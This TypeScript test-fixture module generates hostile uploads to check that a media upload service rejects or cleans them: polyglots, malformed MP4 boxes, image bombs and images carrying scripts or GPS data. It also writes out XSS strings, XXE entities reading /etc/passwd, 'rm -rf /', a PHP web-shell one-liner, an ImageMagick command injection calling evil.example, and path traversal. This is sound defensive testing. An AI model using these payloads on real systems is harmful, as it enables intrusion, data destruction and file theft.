import { deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import { avifWithSize, blackPng, jpegWithScans, pngChunk } from "./testing-costly-images.ts";
import { phonePhoto, plainImage } from "./testing-images.ts";
import { box, mp4 } from "./testing-videos.ts";

export interface HostileFile {
  name: string;
  as: "image" | "video";
  bytes: Buffer;
  /** True if the file must be rejected. Others may be stored, re-encoded and without their payload. */
  mustReject: boolean;
}

const SCRIPT = `<script>alert(document.cookie)</script>`;
const PAGE = `<!doctype html><html><body onload=alert(1)>${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}<image href="file:///etc/passwd"/></svg>`;
/** Content that no served file may contain. */
export const PAYLOAD = /<script|<svg|onload=|alert\(|GPSLatitude|at home|Sunita/i;

const OTHER_FORMATS: Record<string, string | Buffer> = {
  nothing: "",
  "one byte": "\xff",
  "an SVG": SVG,
  "an SVG with a declaration": `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG}`,
  "an SVG after a byte-order mark": `\xef\xbb\xbf${SVG}`,
  "an SVG in UTF-16": Buffer.from(`\ufeff${SVG}`, "utf16le"),
  "a compressed SVG": gzipSync(SVG),
  "an HTML page": PAGE,
  "an HTML page after spaces": `${" \n".repeat(400)}${PAGE}`,
  "a script": "#!/bin/sh\nrm -rf /\n",
  "a PHP script": "<?php system($_GET['c']); ?>",
  "a PDF": `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj`,
  "a PostScript file": "%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file",
  "an ELF program": Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01", "latin1"), Buffer.alloc(200)]),
  "a Windows program": Buffer.concat([Buffer.from("MZ\x90\0", "latin1"), Buffer.alloc(200)]),
  "a ZIP": Buffer.concat([Buffer.from("PK\x03\x04\x14\0\0\0\x08\0", "latin1"), Buffer.alloc(100)]),
  "a ZIP bomb": gzipSync(Buffer.alloc(5_000_000)),
  "a Java archive": Buffer.from("\xca\xfe\xba\xbe\0\0\0\x34", "latin1"),
  "a WebAssembly module": Buffer.from("\0asm\x01\0\0\0", "latin1"),
  "a Photoshop file": Buffer.concat([Buffer.from("8BPS\0\x01", "latin1"), Buffer.alloc(60)]),
  "a bitmap": Buffer.concat([Buffer.from("BM", "latin1"), Buffer.alloc(100, 1)]),
  "an icon": Buffer.from("\0\0\x01\0\x01\0\x10\x10\0\0", "latin1"),
  "a TIFF": Buffer.from("II*\0\x08\0\0\0\xff\xff", "latin1"),
  "an ImageMagick script": `push graphic-context\nfill 'url(https://evil.example/"|id")'\npop graphic-context`,
  "an MP3": Buffer.concat([Buffer.from("ID3\x04", "latin1"), Buffer.alloc(100)]),
  "a playlist": "#EXTM3U\n#EXTINF:1\nfile:///etc/passwd\n",
  JSON: `{"__proto__":{"polluted":true}}`,
  "a path": "../../../../etc/passwd\0.jpg",
};

const SIGNATURES: Record<string, string> = {
  JPEG: "\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0",
  PNG: "\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
  GIF: "GIF89a\x01\0\x01\0\0\0\0",
  "GIF and JavaScript": "GIF89a/*\0\0*/=1;",
  WebP: "RIFF\xff\xff\0\0WEBPVP8 ",
  AVIF: "\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf",
  HEIC: "\0\0\0\x18ftypheic\0\0\0\0heicmif1",
  MP4: "\0\0\0\x18ftypisom\0\0\x02\0isommp42",
  MOV: "\0\0\0\x14ftypqt  \0\0\x02\0qt  ",
  WebM: "\x1aE\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x84webm",
  AVI: "RIFF\xff\0\0\0AVI LIST",
  Ogg: "OggS\0\x02\0\0\0\0\0\0\0\0",
};

/** Returns the same files each time: every kind first, then corrupted copies of valid files. */
export async function hostileFiles(count: number): Promise<HostileFile[]> {
  const known = [...otherFormats(), ...polyglots(), ...malformedBoxes(), ...bombs()];
  const files = [...known, ...(await costlyImages()), ...(await imagesWithPayload())];
  const corrupt = await createCorruptor();
  const random = randomFrom(20_261_121);
  while (files.length < count) files.push(corrupt(random, files.length));
  return files.slice(0, count);
}

function otherFormats(): HostileFile[] {
  return Object.entries(OTHER_FORMATS).flatMap(([name, content]) =>
    (["image", "video"] as const).map((as) => ({
      name: `${name} as ${as}`,
      as,
      bytes: latin(content),
      mustReject: true,
    })),
  );
}

function polyglots(): HostileFile[] {
  return Object.entries(SIGNATURES).flatMap(([format, signature]) =>
    [PAGE, SVG, "PK\x03\x04", "\0".repeat(4000)].flatMap((body, index) =>
      (["image", "video"] as const).map((as) => ({
        name: `the signature of a ${format} before body ${index} as ${as}`,
        as,
        bytes: latin(signature + body),
        mustReject: true,
      })),
    ),
  );
}

function malformedBoxes(): HostileFile[] {
  const fileTypeBox = latin(SIGNATURES["MP4"] ?? "");
  const sized = (size: number, name: string, rest = 50) => {
    const bytes = box(name, Buffer.alloc(rest));
    bytes.writeUInt32BE(size);
    return bytes;
  };
  const mediaData = box("mdat", Buffer.alloc(50));
  const error: Record<string, Buffer[]> = {
    "no index": [fileTypeBox, mediaData],
    "no media data": [fileTypeBox, box("moov", box("mvhd"))],
    "an empty index": [fileTypeBox, box("moov"), mediaData],
    "an HTML page as its index": [fileTypeBox, box("moov", latin(PAGE)), mediaData],
    ...Object.fromEntries(
      [2, 3, 4, 5, 6, 7].map((size) => [`a box of ${size} bytes`, [fileTypeBox, sized(size, "moov")]]),
    ),
    "a box that extends to the end of the file": [fileTypeBox, sized(0, "free")],
    "a box beyond the file": [fileTypeBox, sized(0xffff_fff0, "moov"), mediaData],
    "a 64-bit box without its size": [fileTypeBox, sized(1, "moov", 0)],
    "a 64-bit box of the maximum size": [
      fileTypeBox,
      Buffer.from("\0\0\0\x01moov\xff\xff\xff\xff\xff\xff\xff\xff", "latin1"),
    ],
    "boxes within boxes": [
      fileTypeBox,
      Array.from({ length: 500 }).reduce<Buffer>((inner) => box("moov", inner), mediaData),
    ],
    "a hundred thousand boxes": [fileTypeBox, ...Array.from({ length: 100_000 }, () => box("free"))],
    "a nameless box": [fileTypeBox, box("\0\0\0\0"), box("moov", box("mvhd")), mediaData],
  };
  return Object.entries(error).map(([name, parts]) => ({
    name: `a video with ${name}`,
    as: "video" as const,
    bytes: Buffer.concat(parts),
    mustReject: true,
  }));
}

/** Small files that claim to be huge, and some that decompress to huge ones. */
function bombs(): HostileFile[] {
  const sizes: [number, number][] = [
    [16_000, 16_000],
    [50_001, 1000],
    [1000, 50_001],
    [65_535, 65_535],
    [2_147_483_647, 2_147_483_647],
    [0, 100],
    [100, 0],
  ];
  const files = sizes.flatMap(([width, height]): [string, Buffer][] => {
    const [w, h] = [width & 0xffff, height & 0xffff];
    const jpeg = latin("\xff\xd8\xff\xc0\0\x11\x08\0\0\0\0\x03\x01\x22\0\x02\x11\x01\x03\x11\x01\xff\xd9");
    jpeg.writeUInt16BE(h, 7);
    jpeg.writeUInt16BE(w, 9);
    const gif = latin("GIF89a\0\0\0\0\0\0\0,\0\0\0\0\0\0\0\0\0;");
    gif.writeUInt16LE(w, 6);
    gif.writeUInt16LE(h, 8);
    const webp = latin(`RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0${"\0".repeat(6)}`);
    webp.writeUIntLE(Math.max(0, width - 1) & 0xff_ffff, 24, 3);
    webp.writeUIntLE(Math.max(0, height - 1) & 0xff_ffff, 27, 3);
    return [
      [`PNG, empty, of ${width} × ${height}`, png(width, height, Buffer.alloc(0))],
      [`JPEG of ${w} × ${h}`, jpeg],
      [`GIF of ${w} × ${h}`, gif],
      [`WebP of ${width} × ${height}`, webp],
    ];
  });
  files.push(["PNG of 256 megapixels", png(16_000, 16_000, Buffer.alloc(16_000 * 2001, 0))]);
  files.push(["PNG that decompresses to 50 MB", png(10, 10, Buffer.alloc(50_000_000))]);
  return files.map(([name, bytes]) => ({
    name: `a ${name}`,
    as: "image",
    bytes,
    mustReject: !name.includes("decompresses"),
  }));
}

/** One bit per pixel, so that a huge image is a small file. */
function png(width: number, height: number, rows: Buffer): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1;
  const chunks = [pngChunk("IHDR", header), pngChunk("IDAT", deflateSync(rows)), pngChunk("IEND")];
  return Buffer.concat([latin("\x89PNG\r\n\x1a\n"), ...chunks]);
}

/** Small files that would need much memory or time. */
async function costlyImages(): Promise<HostileFile[]> {
  const files: [string, Buffer][] = [
    ["JPEG of 2,646 scans", jpegWithScans(7000, 2646)],
    ["interlaced PNG with 16 bits per channel", blackPng(7000, 7000, { color: "rgba", depth: 16, interlaced: true })],
    ["AVIF of 49 megapixels", await avifWithSize(7000, 7000)],
    ["AVIF that is larger than its header says", await avifWithSize(10, 10)],
  ];
  return files.map(([name, bytes]) => ({ name: `a ${name}`, as: "image", bytes, mustReject: true }));
}

async function imagesWithPayload(): Promise<HostileFile[]> {
  const formats = ["jpeg", "png", "webp", "gif", "avif"] as const;
  const images = await Promise.all(formats.map((format) => plainImage(format, 60, 40)));
  const comment = latin(`\xff\xfe\0${String.fromCharCode(SCRIPT.length + 2)}${SCRIPT}`);
  const [jpeg = Buffer.alloc(0)] = images;
  const frames = await sharp({ create: { width: 40, height: 120, channels: 3, background: "#a04020" } })
    .raw()
    .toBuffer();
  const animated = sharp(frames, { raw: { width: 40, height: 120, channels: 3, pageHeight: 40 } });
  const withPayload: [string, Buffer][] = [
    ["a photo with a GPS location", await phonePhoto()],
    ["a photo with a script as its comment", Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)])],
    ["an animated GIF", await animated.clone().gif().toBuffer()],
    ["an animated WebP", await animated.clone().webp().toBuffer()],
    ...formats.flatMap((format, index): [string, Buffer][] =>
      [PAGE, `PK\x03\x04${SVG}`].map((tail) => [
        `a ${format} before ${tail.slice(0, 9)}`,
        Buffer.concat([images[index] ?? jpeg, latin(tail)]),
      ]),
    ),
  ];
  const storedImages = withPayload.map(([name, bytes]) => ({ name, as: "image" as const, bytes, mustReject: false }));
  const wrongType = [
    { name: "a video as an image", as: "image" as const, bytes: mp4(500), mustReject: true },
    ...storedImages.map((file) => ({
      ...file,
      name: `${file.name}, as a video`,
      as: "video" as const,
      mustReject: true,
    })),
  ];
  return [...storedImages, ...wrongType];
}

async function createCorruptor() {
  const formats = ["jpeg", "png", "webp", "gif", "avif"] as const;
  const validImages = await Promise.all(formats.map((format) => plainImage(format, 120, 90)));
  const originals = [
    ...validImages.map((bytes) => ({ as: "image" as const, bytes })),
    { as: "video" as const, bytes: mp4(2000) },
  ];
  return (random: () => number, number: number): HostileFile => {
    const { as, bytes } = originals[number % originals.length] ?? { as: "image", bytes: Buffer.alloc(0) };
    const broken = Buffer.from(bytes);
    const changes = 1 + Math.floor(random() * 20);
    for (let change = 0; change < changes; change += 1) {
      broken[Math.floor(random() * broken.length)] = Math.floor(random() * 256);
    }
    const cut = random() < 0.5 ? Math.floor(random() * broken.length) : broken.length;
    return { name: `broken copy ${number}`, as, bytes: broken.subarray(0, cut), mustReject: false };
  };
}

/** Deterministic pseudo-random numbers (mulberry32). */
function randomFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

function latin(content: string | Buffer): Buffer {
  return typeof content === "string" ? Buffer.from(content, "latin1") : content;
}
